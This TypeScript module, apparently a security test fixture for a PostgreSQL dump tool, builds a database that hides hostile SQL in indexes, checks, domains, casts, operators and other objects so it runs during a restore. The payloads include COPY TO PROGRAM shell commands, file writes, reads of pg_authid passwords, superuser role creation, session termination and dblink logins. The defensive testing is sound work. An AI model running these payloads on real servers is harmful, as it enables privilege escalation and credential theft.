/**
 * A database in which each way that code can lie in an object is used once. Whatever of it is run
 * tries every deed once a session, swallows what it is refused, and says in the server's log that it ran.
 */

/** The database that it is made in: there, and there alone, its code does nothing. */
export const HOME = "hostile";

/** What is tried: SQL that leaves a trace on the server, and a query that finds the trace. */
export const DEEDS: Readonly<Record<string, { readonly sql: string; readonly trace: string }>> = {
  "a program": {
    sql: `copy (select 1) to program 'touch /tmp/oakum_hostile_program'`,
    trace: `select (pg_stat_file('/tmp/oakum_hostile_program', true)).size is not null`,
  },
  "a program that logs in anew": {
    sql: `copy (select 1) to program
      'psql -U postgres -d victim -c "insert into deeds values (''program'')"'`,
    trace: `select exists (select from deeds where deed = 'program')`,
  },
  "a file": {
    sql: `copy (select 1) to '/tmp/oakum_hostile_file'`,
    trace: `select (pg_stat_file('/tmp/oakum_hostile_file', true)).size is not null`,
  },
  "a file by a large object": {
    sql: `perform lo_export(lo_from_bytea(0, 'x'), '/tmp/oakum_hostile_object')`,
    trace: `select (pg_stat_file('/tmp/oakum_hostile_object', true)).size is not null`,
  },
  "a secret file": {
    sql: `if length(pg_read_file('PG_VERSION')) > 0 then
      execute 'alter role oakum_witness connection limit 7'; end if`,
    trace: `select rolconnlimit = 7 from pg_roles where rolname = 'oakum_witness'`,
  },
  "a password": {
    sql: `if exists (select from pg_authid where rolpassword is not null) then
      execute 'alter role oakum_witness connection limit 8'; end if`,
    trace: `select rolconnlimit = 8 from pg_roles where rolname = 'oakum_witness'`,
  },
  "a role": {
    sql: `create role oakum_hostile superuser login`,
    trace: `select exists (select from pg_roles where rolname = 'oakum_hostile')`,
  },
  "the rights of a role": {
    sql: `execute format('alter role %I superuser', session_user)`,
    trace: `select exists (select from pg_roles where rolname like 'oakum_load%' and rolsuper)`,
  },
  "the role of a superuser": {
    sql: `set role postgres; perform set_config('role', 'postgres', false);
      alter role oakum_witness connection limit 9`,
    trace: `select rolconnlimit = 9 from pg_roles where rolname = 'oakum_witness'`,
  },
  "another database": {
    sql: `alter database victim set work_mem = '77MB'`,
    trace: `select exists (select from pg_db_role_setting join pg_database d on d.oid = setdatabase
      where datname = 'victim' and setconfig::text like '%77MB%')`,
  },
  "the name of another database": {
    sql: `alter database bystander rename to oakum_hostile_victim`,
    trace: `select exists (select from pg_database where datname = 'oakum_hostile_victim')`,
  },
  "the sessions of others": {
    sql: `perform pg_terminate_backend(pid) from pg_stat_activity
      where usename <> session_user and datname = 'victim'`,
    trace: `select not exists (select from pg_stat_activity where application_name = 'witness')`,
  },
  "the server's settings": {
    sql: `perform set_config('log_statement', 'all', false); perform pg_reload_conf();
      execute 'alter role oakum_witness set log_statement = ''all'''`,
    trace:
      `select exists (select from pg_db_role_setting where setconfig::text like '%log_statement%')`,
  },
  "the network": {
    sql: `create extension dblink; perform dblink_exec('host=127.0.0.1 user=postgres dbname=victim',
      'insert into deeds values (''network'')'); drop extension dblink`,
    trace: `select exists (select from deeds where deed = 'network')`,
  },
};

/** Objects with code in them, by where it lies; `act('…')` is what runs. */
export const PLACES: Readonly<Record<string, string>> = {
  "materialized view": `create materialized view m as select act('materialized view') as n`,
  "index expression": `create table i1 (n int); insert into i1 values (1);
    create index on i1 (act('index expression', n))`,
  "index predicate": `create table i2 (n int); insert into i2 values (1);
    create index on i2 (n) where act('index predicate', n) = n`,
  "check": `create table c1 (n int check (act('check', n) = n)); insert into c1 values (1)`,
  "check added later": `create table c2 (n int); insert into c2 values (1);
    alter table c2 add check (act('check added later', n) = n)`,
  "generated column":
    `create table g (n int, m int generated always as (act('generated column', n)) stored);
    insert into g values (1)`,
  "domain": `create domain d as int check (act('domain', value) = value);
    create table d1 (n d); insert into d1 values (1)`,
  "statistics":
    `create table s1 (n int, m int); insert into s1 select n, n from generate_series(1, 50) n;
    create statistics on (act('statistics', n)), m from s1`,
  "exclusion": `create table x1 (n int, exclude using btree ((act('exclusion', n)) with =));
    insert into x1 values (1)`,
  "partition key": `create table p1 (n int) partition by range (act('partition key', n));
    create table p1a partition of p1 for values from (0) to (10); insert into p1 values (1);
    create table p1b partition of p1 default`,
  "aggregate": `create function act_sum(int, int) returns int language plpgsql as
      $$ begin return public.act('aggregate', $1 + $2); end $$;
    create aggregate act_agg(int) (sfunc = act_sum, stype = int, initcond = '0');
    create materialized view ma as select act_agg(n) from generate_series(1, 3) n`,
  "operator": `create function act_eq(int, text) returns boolean language plpgsql as
      $$ begin return public.act('operator', $1) = 1; end $$;
    create operator ==== (leftarg = int, rightarg = text, function = act_eq);
    create materialized view mo as select 1 ==== 'x'::text as n`,
  "cast": `create type kind as enum ('a');
    create function act_cast(kind) returns int language plpgsql as
      $$ begin return public.act('cast', 1); end $$;
    create cast (kind as int) with function act_cast(kind) as implicit;
    create materialized view mc as select 'a'::kind::int as n`,
  "range's difference":
    `create function act_diff(int, int) returns float8 language plpgsql immutable as
      $$ begin return public.act('range''s difference', $1 - $2); end $$;
    create type gap as range (subtype = int, subtype_diff = act_diff);
    create table r1 (g gap);
    insert into r1 select gap(n, n + 5) from generate_series(1, 60) n`,
  "default": `create table f1 (n int default act('default')); insert into f1 default values`,
  "trigger": `create function act_trigger() returns trigger language plpgsql as
      $$ begin perform public.act('trigger'); return new; end $$;
    create table t1 (n int); create trigger t before insert on t1 for each row
      execute function act_trigger(); insert into t1 values (1)`,
  "policy": `create table y1 (n int); insert into y1 values (1);
    create policy y on y1 using (act('policy', n) = n);
    alter table y1 enable row level security; alter table y1 force row level security`,
  "rule": `create table u1 (n int); create rule u as on insert to u1 do also select act('rule')`,
  "view": `create view v1 as select act('view') as n`,
  "setting of a function": `create function act_set() returns int language sql
      set search_path = public, pg_temp as $$ select public.act('setting of a function') $$;
    create materialized view ms as select act_set() as n`,
  "rights of its owner":
    `create function act_definer() returns int language plpgsql security definer as
      $$ begin return public.act('rights of its owner'); end $$;
    create materialized view md as select act_definer() as n`,
};

/** Places whose code runs while a dump is loaded, proved and measured, whoever does it. */
export const RUN = [
  ...["materialized view", "index expression", "index predicate", "check", "check added later"],
  ...["generated column", "domain", "statistics", "exclusion", "aggregate", "operator", "cast"],
  ...["range's difference", "setting of a function", "rights of its owner"],
];

/** What the server's log has before the name of a place whose code ran. */
export const RAN = "hostile code ran: ";

/** The whole of it. */
export function hostileSql(): string {
  const deeds = Object.values(DEEDS).map(({ sql }) =>
    `begin ${sql}; exception when others then null; end;`
  );
  return `
create function act(place text, n int default 1) returns int language plpgsql immutable as
$act$ begin perform public.deeds(place); return n; end $act$;
create function deeds(place text) returns void language plpgsql as $deeds$
begin
  if current_database() = '${HOME}' then return; end if;
  raise log '${RAN}% (%)', place, current_setting('is_superuser');
  -- Whoever may do all of it need not do it at each place.
  place := case current_setting('is_superuser') when 'on' then 'x'
    else regexp_replace(place, '\\W', '_', 'g') end;
  if current_setting('hostile.' || place, true) = 'tried' then return; end if;
  perform set_config('hostile.' || place, 'tried', false);
  ${deeds.join("\n  ")}
end $deeds$;
set search_path = public;
${Object.values(PLACES).join(";\n")};
`;
}
